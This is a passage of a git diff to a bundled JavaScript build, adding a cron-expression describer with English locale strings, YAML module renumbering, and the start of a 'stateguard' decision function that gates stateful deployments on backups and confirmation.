+            if (segments[0].indexOf("-") > -1) {
+                var rangeSegmentDescription = this.generateRangeSegmentDescription(segments[0], getRangeDescriptionFormat, getSingleItemDescription);
+                if (rangeSegmentDescription.indexOf(", ") != 0) {
+                    description += ", ";
+                }
+                description += rangeSegmentDescription;
+            }
+            else if (segments[0].indexOf("*") == -1) {
+                var rangeItemDescription = stringUtilities_1.StringUtilities.format(getDescriptionFormat(segments[0]), getSingleItemDescription(segments[0]));
+                rangeItemDescription = rangeItemDescription.replace(", ", "");
+                description += stringUtilities_1.StringUtilities.format(this.i18n.commaStartingX0(), rangeItemDescription);
+            }
+        }
+        else if (doesExpressionContainRange) {
+            description = this.generateRangeSegmentDescription(expression, getRangeDescriptionFormat, getSingleItemDescription);
+        }
+        return description;
+    };
+    ExpressionDescriptor.prototype.generateRangeSegmentDescription = function (rangeExpression, getRangeDescriptionFormat, getSingleItemDescription) {
+        var description = "";
+        var rangeSegments = rangeExpression.split("-");
+        var rangeSegment1Description = getSingleItemDescription(rangeSegments[0], 1);
+        var rangeSegment2Description = getSingleItemDescription(rangeSegments[1], 2);
+        var rangeDescriptionFormat = getRangeDescriptionFormat(rangeExpression);
+        description += stringUtilities_1.StringUtilities.format(rangeDescriptionFormat, rangeSegment1Description, rangeSegment2Description);
+        return description;
+    };
+    ExpressionDescriptor.prototype.formatTime = function (hourExpression, minuteExpression, secondExpression) {
+        var hourOffset = 0;
+        var minuteOffset = 0;
+        var hour = parseInt(hourExpression) + hourOffset;
+        var minute = parseInt(minuteExpression) + minuteOffset;
+        if (minute >= 60) {
+            minute -= 60;
+            hour += 1;
+        }
+        else if (minute < 0) {
+            minute += 60;
+            hour -= 1;
+        }
+        if (hour >= 24) {
+            hour = hour - 24;
+        }
+        else if (hour < 0) {
+            hour = 24 + hour;
+        }
+        var period = "";
+        var setPeriodBeforeTime = false;
+        if (!this.options.use24HourTimeFormat) {
+            setPeriodBeforeTime = !!(this.i18n.setPeriodBeforeTime && this.i18n.setPeriodBeforeTime());
+            period = setPeriodBeforeTime ? "".concat(this.getPeriod(hour), " ") : " ".concat(this.getPeriod(hour));
+            if (hour > 12) {
+                hour -= 12;
+            }
+            if (hour === 0) {
+                hour = 12;
+            }
+        }
+        var second = "";
+        if (secondExpression) {
+            second = ":".concat(("00" + secondExpression).substring(secondExpression.length));
+        }
+        return "".concat(setPeriodBeforeTime ? period : "").concat(("00" + hour.toString()).substring(hour.toString().length), ":").concat(("00" + minute.toString()).substring(minute.toString().length)).concat(second).concat(!setPeriodBeforeTime ? period : "");
+    };
+    ExpressionDescriptor.prototype.transformVerbosity = function (description, useVerboseFormat) {
+        if (!useVerboseFormat) {
+            description = description.replace(new RegExp(", ".concat(this.i18n.everyMinute()), "g"), "");
+            description = description.replace(new RegExp(", ".concat(this.i18n.everyHour()), "g"), "");
+            description = description.replace(new RegExp(this.i18n.commaEveryDay(), "g"), "");
+            description = description.replace(/\, ?$/, "");
+            if (this.i18n.conciseVerbosityReplacements) {
+                for (var _i = 0, _a = Object.entries(this.i18n.conciseVerbosityReplacements()); _i < _a.length; _i++) {
+                    var _b = _a[_i], key = _b[0], value = _b[1];
+                    description = description.replace(new RegExp(key, "g"), value);
+                }
+            }
+        }
+        return description;
+    };
+    ExpressionDescriptor.prototype.getPeriod = function (hour) {
+        return hour >= 12 ? (this.i18n.pm && this.i18n.pm()) || "PM" : (this.i18n.am && this.i18n.am()) || "AM";
+    };
+    ExpressionDescriptor.locales = {};
+    return ExpressionDescriptor;
+}());
+exports.ExpressionDescriptor = ExpressionDescriptor;
+
+
+/***/ }),
+
+/***/ 747:
+/***/ ((__unused_webpack_module, exports, __nested_webpack_require_36784__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.enLocaleLoader = void 0;
+var en_1 = __nested_webpack_require_36784__(486);
+var enLocaleLoader = (function () {
+    function enLocaleLoader() {
+    }
+    enLocaleLoader.prototype.load = function (availableLocales) {
+        availableLocales["en"] = new en_1.en();
+    };
+    return enLocaleLoader;
+}());
+exports.enLocaleLoader = enLocaleLoader;
+
+
+/***/ }),
+
+/***/ 486:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.en = void 0;
+var en = (function () {
+    function en() {
+    }
+    en.prototype.atX0SecondsPastTheMinuteGt20 = function () {
+        return null;
+    };
+    en.prototype.atX0MinutesPastTheHourGt20 = function () {
+        return null;
+    };
+    en.prototype.commaMonthX0ThroughMonthX1 = function () {
+        return null;
+    };
+    en.prototype.commaYearX0ThroughYearX1 = function () {
+        return null;
+    };
+    en.prototype.use24HourTimeFormatByDefault = function () {
+        return false;
+    };
+    en.prototype.anErrorOccuredWhenGeneratingTheExpressionD = function () {
+        return "An error occurred when generating the expression description. Check the cron expression syntax.";
+    };
+    en.prototype.everyMinute = function () {
+        return "every minute";
+    };
+    en.prototype.everyHour = function () {
+        return "every hour";
+    };
+    en.prototype.atSpace = function () {
+        return "At ";
+    };
+    en.prototype.everyMinuteBetweenX0AndX1 = function () {
+        return "Every minute between %s and %s";
+    };
+    en.prototype.at = function () {
+        return "At";
+    };
+    en.prototype.spaceAnd = function () {
+        return " and";
+    };
+    en.prototype.everySecond = function () {
+        return "every second";
+    };
+    en.prototype.everyX0Seconds = function () {
+        return "every %s seconds";
+    };
+    en.prototype.secondsX0ThroughX1PastTheMinute = function () {
+        return "seconds %s through %s past the minute";
+    };
+    en.prototype.atX0SecondsPastTheMinute = function () {
+        return "at %s seconds past the minute";
+    };
+    en.prototype.everyX0Minutes = function () {
+        return "every %s minutes";
+    };
+    en.prototype.minutesX0ThroughX1PastTheHour = function () {
+        return "minutes %s through %s past the hour";
+    };
+    en.prototype.atX0MinutesPastTheHour = function () {
+        return "at %s minutes past the hour";
+    };
+    en.prototype.everyX0Hours = function () {
+        return "every %s hours";
+    };
+    en.prototype.betweenX0AndX1 = function () {
+        return "between %s and %s";
+    };
+    en.prototype.atX0 = function () {
+        return "at %s";
+    };
+    en.prototype.commaEveryDay = function () {
+        return ", every day";
+    };
+    en.prototype.commaEveryX0DaysOfTheWeek = function () {
+        return ", every %s days of the week";
+    };
+    en.prototype.commaX0ThroughX1 = function () {
+        return ", %s through %s";
+    };
+    en.prototype.commaAndX0ThroughX1 = function () {
+        return ", %s through %s";
+    };
+    en.prototype.first = function () {
+        return "first";
+    };
+    en.prototype.second = function () {
+        return "second";
+    };
+    en.prototype.third = function () {
+        return "third";
+    };
+    en.prototype.fourth = function () {
+        return "fourth";
+    };
+    en.prototype.fifth = function () {
+        return "fifth";
+    };
+    en.prototype.commaOnThe = function () {
+        return ", on the ";
+    };
+    en.prototype.spaceX0OfTheMonth = function () {
+        return " %s of the month";
+    };
+    en.prototype.lastDay = function () {
+        return "the last day";
+    };
+    en.prototype.commaOnTheLastX0OfTheMonth = function () {
+        return ", on the last %s of the month";
+    };
+    en.prototype.commaOnlyOnX0 = function () {
+        return ", only on %s";
+    };
+    en.prototype.commaAndOnX0 = function () {
+        return ", and on %s";
+    };
+    en.prototype.commaEveryX0Months = function () {
+        return ", every %s months";
+    };
+    en.prototype.commaOnlyInX0 = function () {
+        return ", only in %s";
+    };
+    en.prototype.commaOnTheLastDayOfTheMonth = function () {
+        return ", on the last day of the month";
+    };
+    en.prototype.commaOnTheLastWeekdayOfTheMonth = function () {
+        return ", on the last weekday of the month";
+    };
+    en.prototype.commaDaysBeforeTheLastDayOfTheMonth = function () {
+        return ", %s days before the last day of the month";
+    };
+    en.prototype.firstWeekday = function () {
+        return "first weekday";
+    };
+    en.prototype.weekdayNearestDayX0 = function () {
+        return "weekday nearest day %s";
+    };
+    en.prototype.commaOnTheX0OfTheMonth = function () {
+        return ", on the %s of the month";
+    };
+    en.prototype.commaEveryX0Days = function () {
+        return ", every %s days";
+    };
+    en.prototype.commaBetweenDayX0AndX1OfTheMonth = function () {
+        return ", between day %s and %s of the month";
+    };
+    en.prototype.commaOnDayX0OfTheMonth = function () {
+        return ", on day %s of the month";
+    };
+    en.prototype.commaEveryHour = function () {
+        return ", every hour";
+    };
+    en.prototype.commaEveryX0Years = function () {
+        return ", every %s years";
+    };
+    en.prototype.commaStartingX0 = function () {
+        return ", starting %s";
+    };
+    en.prototype.daysOfTheWeek = function () {
+        return ["Sunday", "Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday"];
+    };
+    en.prototype.monthsOfTheYear = function () {
+        return [
+            "January",
+            "February",
+            "March",
+            "April",
+            "May",
+            "June",
+            "July",
+            "August",
+            "September",
+            "October",
+            "November",
+            "December",
+        ];
+    };
+    en.prototype.atReboot = function () {
+        return "Run once, at startup";
+    };
+    return en;
+}());
+exports.en = en;
+
+
+/***/ }),
+
+/***/ 515:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+function assert(value, message) {
+    if (!value) {
+        throw new Error(message);
+    }
+}
+var RangeValidator = (function () {
+    function RangeValidator() {
+    }
+    RangeValidator.secondRange = function (parse) {
+        var parsed = parse.split(',');
+        for (var i = 0; i < parsed.length; i++) {
+            if (!isNaN(parseInt(parsed[i], 10))) {
+                var second = parseInt(parsed[i], 10);
+                assert(second >= 0 && second <= 59, 'seconds part must be >= 0 and <= 59');
+            }
+        }
+    };
+    RangeValidator.minuteRange = function (parse) {
+        var parsed = parse.split(',');
+        for (var i = 0; i < parsed.length; i++) {
+            if (!isNaN(parseInt(parsed[i], 10))) {
+                var minute = parseInt(parsed[i], 10);
+                assert(minute >= 0 && minute <= 59, 'minutes part must be >= 0 and <= 59');
+            }
+        }
+    };
+    RangeValidator.hourRange = function (parse) {
+        var parsed = parse.split(',');
+        for (var i = 0; i < parsed.length; i++) {
+            if (!isNaN(parseInt(parsed[i], 10))) {
+                var hour = parseInt(parsed[i], 10);
+                assert(hour >= 0 && hour <= 23, 'hours part must be >= 0 and <= 23');
+            }
+        }
+    };
+    RangeValidator.dayOfMonthRange = function (parse) {
+        var parsed = parse.split(',');
+        for (var i = 0; i < parsed.length; i++) {
+            if (!isNaN(parseInt(parsed[i], 10))) {
+                var dayOfMonth = parseInt(parsed[i], 10);
+                assert(dayOfMonth >= 1 && dayOfMonth <= 31, 'DOM part must be >= 1 and <= 31');
+            }
+        }
+    };
+    RangeValidator.monthRange = function (parse, monthStartIndexZero) {
+        var parsed = parse.split(',');
+        for (var i = 0; i < parsed.length; i++) {
+            if (!isNaN(parseInt(parsed[i], 10))) {
+                var month = parseInt(parsed[i], 10);
+                assert(month >= 1 && month <= 12, monthStartIndexZero ? 'month part must be >= 0 and <= 11' : 'month part must be >= 1 and <= 12');
+            }
+        }
+    };
+    RangeValidator.dayOfWeekRange = function (parse, dayOfWeekStartIndexZero) {
+        var parsed = parse.split(',');
+        for (var i = 0; i < parsed.length; i++) {
+            if (!isNaN(parseInt(parsed[i], 10))) {
+                var dayOfWeek = parseInt(parsed[i], 10);
+                assert(dayOfWeek >= 0 && dayOfWeek <= 6, dayOfWeekStartIndexZero ? 'DOW part must be >= 0 and <= 6' : 'DOW part must be >= 1 and <= 7');
+            }
+        }
+    };
+    return RangeValidator;
+}());
+exports["default"] = RangeValidator;
+
+
+/***/ }),
+
+/***/ 823:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.StringUtilities = void 0;
+var StringUtilities = (function () {
+    function StringUtilities() {
+    }
+    StringUtilities.format = function (template) {
+        var values = [];
+        for (var _i = 1; _i < arguments.length; _i++) {
+            values[_i - 1] = arguments[_i];
+        }
+        return template.replace(/%s/g, function (substring) {
+            var args = [];
+            for (var _i = 1; _i < arguments.length; _i++) {
+                args[_i - 1] = arguments[_i];
+            }
+            return values.shift();
+        });
+    };
+    StringUtilities.containsAny = function (text, searchStrings) {
+        return searchStrings.some(function (c) {
+            return text.indexOf(c) > -1;
+        });
+    };
+    return StringUtilities;
+}());
+exports.StringUtilities = StringUtilities;
+
+
+/***/ })
+
+/******/ 	});
+/************************************************************************/
+/******/ 	// The module cache
+/******/ 	var __webpack_module_cache__ = {};
+/******/ 	
+/******/ 	// The require function
+/******/ 	function __nested_webpack_require_46808__(moduleId) {
+/******/ 		// Check if module is in cache
+/******/ 		var cachedModule = __webpack_module_cache__[moduleId];
+/******/ 		if (cachedModule !== undefined) {
+/******/ 			return cachedModule.exports;
+/******/ 		}
+/******/ 		// Create a new module (and put it into the cache)
+/******/ 		var module = __webpack_module_cache__[moduleId] = {
+/******/ 			// no module.id needed
+/******/ 			// no module.loaded needed
+/******/ 			exports: {}
+/******/ 		};
+/******/ 	
+/******/ 		// Execute the module function
+/******/ 		__webpack_modules__[moduleId](module, module.exports, __nested_webpack_require_46808__);
+/******/ 	
+/******/ 		// Return the exports of the module
+/******/ 		return module.exports;
+/******/ 	}
+/******/ 	
+/************************************************************************/
+var __nested_webpack_exports__ = {};
+// This entry need to be wrapped in an IIFE because it uses a non-standard name for the exports (exports).
+(() => {
+var exports = __nested_webpack_exports__;
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.toString = void 0;
+var expressionDescriptor_1 = __nested_webpack_require_46808__(333);
+var enLocaleLoader_1 = __nested_webpack_require_46808__(747);
+expressionDescriptor_1.ExpressionDescriptor.initialize(new enLocaleLoader_1.enLocaleLoader());
+exports["default"] = expressionDescriptor_1.ExpressionDescriptor;
+var toString = expressionDescriptor_1.ExpressionDescriptor.toString;
+exports.toString = toString;
+
+})();
+
+/******/ 	return __nested_webpack_exports__;
+/******/ })()
+;
+});
 
 /***/ }),
 
@@ -36680,9 +37813,9 @@ exports.composeCollection = composeCollection;
 
 
 
-var Document = __nccwpck_require__(5402);
+var Document = __nccwpck_require__(3021);
 var composeNode = __nccwpck_require__(5937);
-var resolveEnd = __nccwpck_require__(5407);
+var resolveEnd = __nccwpck_require__(7788);
 var resolveProps = __nccwpck_require__(4631);
 
 function composeDoc(options, directives, { offset, start, value, end }, onError) {
@@ -36736,7 +37869,7 @@ var Alias = __nccwpck_require__(4065);
 var identity = __nccwpck_require__(1127);
 var composeCollection = __nccwpck_require__(7349);
 var composeScalar = __nccwpck_require__(5413);
-var resolveEnd = __nccwpck_require__(5407);
+var resolveEnd = __nccwpck_require__(7788);
 var utilEmptyScalarPosition = __nccwpck_require__(2599);
 
 const CN = { composeNode, composeEmptyNode };
@@ -36948,11 +38081,11 @@ exports.composeScalar = composeScalar;
 
 var node_process = __nccwpck_require__(932);
 var directives = __nccwpck_require__(1342);
-var Document = __nccwpck_require__(5402);
+var Document = __nccwpck_require__(3021);
 var errors = __nccwpck_require__(1464);
 var identity = __nccwpck_require__(1127);
 var composeDoc = __nccwpck_require__(3683);
-var resolveEnd = __nccwpck_require__(5407);
+var resolveEnd = __nccwpck_require__(7788);
 
 function getErrorPos(src) {
     if (typeof src === 'number')
@@ -37561,7 +38694,7 @@ exports.resolveBlockSeq = resolveBlockSeq;
 
 /***/ }),
 
-/***/ 5407:
+/***/ 7788:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -37616,7 +38749,7 @@ var identity = __nccwpck_require__(1127);
 var Pair = __nccwpck_require__(7165);
 var YAMLMap = __nccwpck_require__(4454);
 var YAMLSeq = __nccwpck_require__(2223);
-var resolveEnd = __nccwpck_require__(5407);
+var resolveEnd = __nccwpck_require__(7788);
 var resolveProps = __nccwpck_require__(4631);
 var utilContainsNewline = __nccwpck_require__(9499);
 var utilMapIncludes = __nccwpck_require__(1187);
@@ -37829,7 +38962,7 @@ exports.resolveFlowCollection = resolveFlowCollection;
 
 
 var Scalar = __nccwpck_require__(3301);
-var resolveEnd = __nccwpck_require__(5407);
+var resolveEnd = __nccwpck_require__(7788);
 
 function resolveFlowScalar(scalar, strict, onError) {
     const { offset, type, source, end } = scalar;
@@ -38337,7 +39470,7 @@ exports.mapIncludes = mapIncludes;
 
 /***/ }),
 
-/***/ 5402:
+/***/ 3021:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
@@ -38348,7 +39481,7 @@ var identity = __nccwpck_require__(1127);
 var Pair = __nccwpck_require__(7165);
 var toJS = __nccwpck_require__(6424);
 var Schema = __nccwpck_require__(5840);
-var stringifyDocument = __nccwpck_require__(9210);
+var stringifyDocument = __nccwpck_require__(6829);
 var anchors = __nccwpck_require__(1596);
 var applyReviver = __nccwpck_require__(3661);
 var createNode = __nccwpck_require__(2404);
@@ -39186,7 +40319,7 @@ var __webpack_unused_export__;
 
 
 var composer = __nccwpck_require__(9984);
-var Document = __nccwpck_require__(5402);
+var Document = __nccwpck_require__(3021);
 var Schema = __nccwpck_require__(5840);
 var errors = __nccwpck_require__(1464);
 var Alias = __nccwpck_require__(4065);
@@ -39211,12 +40344,12 @@ __webpack_unused_export__ = errors.YAMLError;
 __webpack_unused_export__ = errors.YAMLParseError;
 __webpack_unused_export__ = errors.YAMLWarning;
 __webpack_unused_export__ = Alias.Alias;
-__webpack_unused_export__ = identity.isAlias;
-__webpack_unused_export__ = identity.isCollection;
-__webpack_unused_export__ = identity.isDocument;
+exports.Vj = identity.isAlias;
+exports.P3 = identity.isCollection;
+exports.wz = identity.isDocument;
 exports.jh = identity.isMap;
 __webpack_unused_export__ = identity.isNode;
-__webpack_unused_export__ = identity.isPair;
+exports.tO = identity.isPair;
 exports.jn = identity.isScalar;
 exports.oP = identity.isSeq;
 __webpack_unused_export__ = Pair.Pair;
@@ -39229,7 +40362,7 @@ exports.HN = lineCounter.LineCounter;
 __webpack_unused_export__ = parser.Parser;
 exports.qg = publicApi.parse;
 exports.hR = publicApi.parseAllDocuments;
-__webpack_unused_export__ = publicApi.parseDocument;
+exports.Tp = publicApi.parseDocument;
 __webpack_unused_export__ = publicApi.stringify;
 __webpack_unused_export__ = visit.visit;
 __webpack_unused_export__ = visit.visitAsync;
@@ -42420,7 +43553,7 @@ exports.Parser = Parser;
 
 
 var composer = __nccwpck_require__(9984);
-var Document = __nccwpck_require__(5402);
+var Document = __nccwpck_require__(3021);
 var errors = __nccwpck_require__(1464);
 var log = __nccwpck_require__(7249);
 var identity = __nccwpck_require__(1127);
@@ -44270,7 +45403,7 @@ exports.stringifyComment = stringifyComment;
 
 /***/ }),
 
-/***/ 9210:
+/***/ 6829:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
@@ -45256,6 +46389,36 @@ module.exports = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/dr
 /******/ 	};
 /******/ })();
 /******/ 
+/******/ /* webpack/runtime/create fake namespace object */
+/******/ (() => {
+/******/ 	var getProto = Object.getPrototypeOf ? (obj) => (Object.getPrototypeOf(obj)) : (obj) => (obj.__proto__);
+/******/ 	var leafPrototypes;
+/******/ 	// create a fake namespace object
+/******/ 	// mode & 1: value is a module id, require it
+/******/ 	// mode & 2: merge all properties of value into the ns
+/******/ 	// mode & 4: return value when already ns object
+/******/ 	// mode & 16: return value when it's Promise-like
+/******/ 	// mode & 8|1: behave like require
+/******/ 	__nccwpck_require__.t = function(value, mode) {
+/******/ 		if(mode & 1) value = this(value);
+/******/ 		if(mode & 8) return value;
+/******/ 		if(typeof value === 'object' && value) {
+/******/ 			if((mode & 4) && value.__esModule) return value;
+/******/ 			if((mode & 16) && typeof value.then === 'function') return value;
+/******/ 		}
+/******/ 		var ns = Object.create(null);
+/******/ 		__nccwpck_require__.r(ns);
+/******/ 		var def = {};
+/******/ 		leafPrototypes = leafPrototypes || [null, getProto({}), getProto([]), getProto(getProto)];
+/******/ 		for(var current = mode & 2 && value; typeof current == 'object' && !~leafPrototypes.indexOf(current); current = getProto(current)) {
+/******/ 			Object.getOwnPropertyNames(current).forEach((key) => (def[key] = () => (value[key])));
+/******/ 		}
+/******/ 		def['default'] = () => (value);
+/******/ 		__nccwpck_require__.d(ns, def);
+/******/ 		return ns;
+/******/ 	};
+/******/ })();
+/******/ 
 /******/ /* webpack/runtime/define property getters */
 /******/ (() => {
 /******/ 	// define getter functions for harmony exports
@@ -45273,13 +46436,24 @@ module.exports = /*#__PURE__*/JSON.parse('{"$schema":"https://json-schema.org/dr
 /******/ 	__nccwpck_require__.o = (obj, prop) => (Object.prototype.hasOwnProperty.call(obj, prop))
 /******/ })();
 /******/ 
+/******/ /* webpack/runtime/make namespace object */
+/******/ (() => {
+/******/ 	// define __esModule on exports
+/******/ 	__nccwpck_require__.r = (exports) => {
+/******/ 		if(typeof Symbol !== 'undefined' && Symbol.toStringTag) {
+/******/ 			Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
+/******/ 		}
+/******/ 		Object.defineProperty(exports, '__esModule', { value: true });
+/******/ 	};
+/******/ })();
+/******/ 
 /************************************************************************/
 var __webpack_exports__ = {};
 
 // EXPORTS
 __nccwpck_require__.d(__webpack_exports__, {
   Lo: () => (/* reexport */ COMMANDS),
-  eh: () => (/* reexport */ actionInputs),
+  N9: () => (/* reexport */ FAILURE_REASONS),
   g_: () => (/* binding */ actionMain),
   m0: () => (/* binding */ cliMain)
 });
@@ -48229,6 +49403,8 @@ function getIDToken(aud) {
  */
 
 //# sourceMappingURL=core.js.map
+;// CONCATENATED MODULE: external "node:os"
+const external_node_os_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:os");
 ;// CONCATENATED MODULE: ./src/errors.ts
 /**
  * Error classes and exit codes shared by the CLI and the actions (DESIGN §10).
@@ -48269,7 +49445,7 @@ const FAILURE_REASONS = {
     internal: 'An unexpected error; stateguard failed closed.',
 };
 /** An error the user can fix. `input` names the flag/input; `reason` feeds the failure-reason output. */
-class errors_UserError extends Error {
+class UserError extends Error {
     input;
     reason;
     exitCode;
@@ -48294,180 +49470,2433 @@ function errorMessage(err) {
     return err instanceof Error ? err.message : String(err);
 }
 
-;// CONCATENATED MODULE: ./src/commands/spec.ts
-function camel(name) {
-    return name.replace(/-([a-z0-9])/g, (_, c) => c.toUpperCase());
-}
-/** Helper so each command file gets its options typed from its own `inputs` literal. */
-function defineCommand(spec) {
-    return spec;
-}
-/** Inputs shared by the commands that read modules. */
-const ROOT_INPUT = {
-    name: 'root',
-    kind: 'string',
-    default: '.',
-    description: 'Directory of the platform repo; modules are found under it.',
-};
-const MODULES_INPUT = {
-    name: 'modules',
-    kind: 'string',
-    default: 'modules/*/module.yaml',
-    description: 'Glob (relative to root) that finds the module.yaml files.',
-};
-const JSON_INPUT = {
-    name: 'json',
-    kind: 'boolean',
-    default: 'false',
-    cliOnly: true,
-    description: 'Print exactly one JSON document on stdout (human text goes to stderr).',
-};
-const FAILURE_REASON_OUTPUT = {
-    name: 'failure-reason',
-    description: 'Empty on success; otherwise one of the documented failure reasons (see README).',
-};
+;// CONCATENATED MODULE: ./src/drift/types.ts
+const DRIFT_KEYS = [
+    'container.missing',
+    'container.config',
+    'container.state.running',
+    'container.health',
+    'container.image',
+    'container.state.exited_success',
+];
 
-;// CONCATENATED MODULE: ./src/commands/not-implemented.ts
+;// CONCATENATED MODULE: ./src/guard/decide.ts
 /**
- * Placeholder for a command whose issue has not landed yet: it says so and exits 3 ("could not
- * run"), so a workflow that calls it fails loudly instead of passing silently.
+ * The stateful-apply rule (DESIGN §4), as one pure function.
+ *
+ * Every input arrives already evaluated — or as the error that stopped its evaluation — so the rule
+ * itself can never throw and never has to guess: an input it cannot trust is a failed condition.
+ * The decision is `allowed` only when nothing failed; there is no path from an error to `allowed`.
+ *
+ * failure_reason precedence (the single value a workflow branches on; every failed condition is
+ * still listed in `reasons`, in this same order):
+ *   1. could not evaluate the plan (docker-unavailable, compose-error, internal): nothing else
+ *      about the module can be trusted, and whether any other condition even applies depends on it;
+ *   2. invalid-input: the request itself is malformed (allow-stateful not exactly true/false);
+ *   3. drift-not-allowed: not a one-shot, or drift this path never applies. No input can fix it,
+ *      so it comes before the conditions an operator could fix by re-dispatching, sparing them a
+ *      backup and a confirmation that would be refused anyway;
+ *   4. not-allowed: the explicit opt-in is missing;
+ *   5. backup-rejected: the backup has to exist and verify before anyone can confirm it;
+ *   6. confirm-mismatch: the confirmation asserts the backup is done, so it is checked last.
+ *
+ * The confirm value is never echoed: it is typed by a person into a free-text field, and a pasted
+ * password would otherwise end up in the job log. The message says only how it differs (empty,
+ * case, surrounding whitespace, or otherwise). The expected token is printed: it is repo
+ * configuration written in the workflow, not a secret, and naming it is how the operator learns
+ * what to type. The verified backup, not the token, is what protects the data.
+ */
+
+/** The only drift the stateful path may apply: a pending (re-)run of a one-shot. */
+const STATEFUL_APPLICABLE_DRIFT = ['container.state.exited_success'];
+const EVALUATION_REASONS = ['docker-unavailable', 'compose-error', 'internal'];
+/** Order of failure reasons from most to least fundamental (see the file comment). */
+const FAILURE_PRECEDENCE = [
+    ...EVALUATION_REASONS,
+    'invalid-input',
+    'drift-not-allowed',
+    'not-allowed',
+    'backup-rejected',
+    'confirm-mismatch',
+];
+function isEvaluationError(x) {
+    return typeof x === 'object' && x !== null && 'error' in x && 'reason' in x;
+}
+function isInvalidBoolean(x) {
+    return typeof x === 'object' && x !== null && 'invalid' in x;
+}
+/** How a given confirm differs from the token, without revealing what was typed. */
+function describeConfirmMismatch(confirm, token) {
+    if (confirm === token)
+        return null;
+    if (confirm === undefined || confirm === '')
+        return 'confirm is empty';
+    const trimmed = confirm.trim();
+    if (trimmed === '')
+        return 'confirm is only whitespace';
+    if (trimmed === token)
+        return 'confirm differs from the token only by surrounding whitespace';
+    if (confirm.toLowerCase() === token.toLowerCase())
+        return 'confirm differs from the token only by letter case';
+    if (trimmed.toLowerCase() === token.toLowerCase()) {
+        return 'confirm differs from the token by letter case and surrounding whitespace';
+    }
+    if (confirm.replace(/\s+/g, '') === token.replace(/\s+/g, ''))
+        return 'confirm differs from the token by whitespace inside it';
+    return 'confirm does not equal the token';
+}
+/**
+ * Check that a plan is a coherent plan of this module. A plan that contradicts itself or names
+ * another module is a bad plan: evaluation failed, so the guard blocks.
+ */
+function planProblem(module, plan) {
+    if (plan.name !== module.name)
+        return `the plan is of module '${plan.name}', not '${module.name}'`;
+    if (plan.class !== module.class)
+        return `the plan says class '${plan.class}' but module.yaml says '${module.class}'`;
+    if (plan.expected_state !== module.expectedState) {
+        return `the plan says expected_state '${plan.expected_state}' but module.yaml says '${module.expectedState}'`;
+    }
+    if (!Array.isArray(plan.drift))
+        return 'the plan has no drift list';
+    const unknown = plan.drift.filter((d) => !DRIFT_KEYS.includes(d?.key));
+    if (unknown.length > 0)
+        return `the plan has unknown drift keys: ${unknown.map((d) => JSON.stringify(d?.key)).join(', ')}`;
+    if (plan.in_sync !== (plan.drift.length === 0)) {
+        return `the plan says in_sync=${String(plan.in_sync)} with ${plan.drift.length} drift item(s)`;
+    }
+    return null;
+}
+function backupSummary(b) {
+    if (b === undefined)
+        return null;
+    if (isEvaluationError(b)) {
+        return { verified: false, path: null, matched_module: null, problems: [{ code: 'unreadable', message: b.error }] };
+    }
+    return { verified: b.verified === true, path: b.path, matched_module: b.matched_module, problems: b.problems ?? [] };
+}
+function decide(input) {
+    const { module } = input;
+    const reasons = [];
+    let driftKeys = [];
+    let planKnown = false;
+    if (isEvaluationError(input.plan)) {
+        reasons.push({
+            code: EVALUATION_REASONS.includes(input.plan.reason) ? input.plan.reason : 'internal',
+            message: `could not plan module '${module.name}': ${input.plan.error}`,
+            fix: 'Fix the cause above (engine reachable, compose file renders) and run again; the guard never allows what it cannot plan.',
+        });
+    }
+    else {
+        const problem = planProblem(module, input.plan);
+        if (problem) {
+            reasons.push({
+                code: 'internal',
+                message: `the plan of module '${module.name}' cannot be trusted: ${problem}`,
+                fix: 'Re-run the plan; if this persists, report it: stateguard failed closed.',
+            });
+        }
+        else {
+            planKnown = true;
+            driftKeys = [...new Set(input.plan.drift.map((d) => d.key))];
+        }
+    }
+    // A malformed boolean blocks whatever the class or drift (DESIGN §4.4): the request is ambiguous.
+    if (isInvalidBoolean(input.allowStateful)) {
+        reasons.push({
+            code: 'invalid-input',
+            input: 'allow-stateful',
+            message: `allow-stateful must be exactly 'true' or 'false', got ${JSON.stringify(input.allowStateful.invalid)} (booleans are never coerced: yes/1/TRUE are refused)`,
+            fix: "Set allow-stateful to true or false (a workflow_dispatch boolean input passes exactly 'true' or 'false').",
+        });
+    }
+    if (planKnown && reasons.length === 0 && driftKeys.length === 0) {
+        return { module: module.name, decision: 'no-op', reasons: [], drift_keys: [], backup: null, failure_reason: '' };
+    }
+    if (planKnown && reasons.length === 0 && module.class === 'stateless') {
+        return { module: module.name, decision: 'allowed', reasons: [], drift_keys: driftKeys, backup: null, failure_reason: '' };
+    }
+    // From here: something already failed, or a stateful/sidecar module has drift. The stateful
+    // conditions are checked whenever there is (or, with an unknown plan, may be) something to
+    // apply, so the operator sees the complete list in one run rather than one reason per retry.
+    const stateful = module.class !== 'stateless' && (!planKnown || driftKeys.length > 0);
+    if (stateful) {
+        if (module.expectedState !== 'exited-success') {
+            reasons.push({
+                code: 'drift-not-allowed',
+                message: `module '${module.name}' is ${module.class} and long-running (expected_state: ${module.expectedState}); the stateful path only re-runs one-shots (expected_state: exited-success)`,
+                fix: 'Change a long-running stateful module through a reviewed maintenance procedure (snapshot, deploy, verify), not stateful-apply.',
+            });
+        }
+        if (planKnown) {
+            const notApplicable = driftKeys.filter((k) => !STATEFUL_APPLICABLE_DRIFT.includes(k));
+            if (notApplicable.length > 0) {
+                reasons.push({
+                    code: 'drift-not-allowed',
+                    message: `module '${module.name}' has drift this path never applies to a ${module.class} module: ${notApplicable.join(', ')} (only ${STATEFUL_APPLICABLE_DRIFT.join(', ')} is applied)`,
+                    fix: 'Resolve that drift by hand with a backup in place (e.g. an image bump is an upgrade, not a re-run), then re-plan.',
+                });
+            }
+        }
+        if (input.allowStateful !== true) {
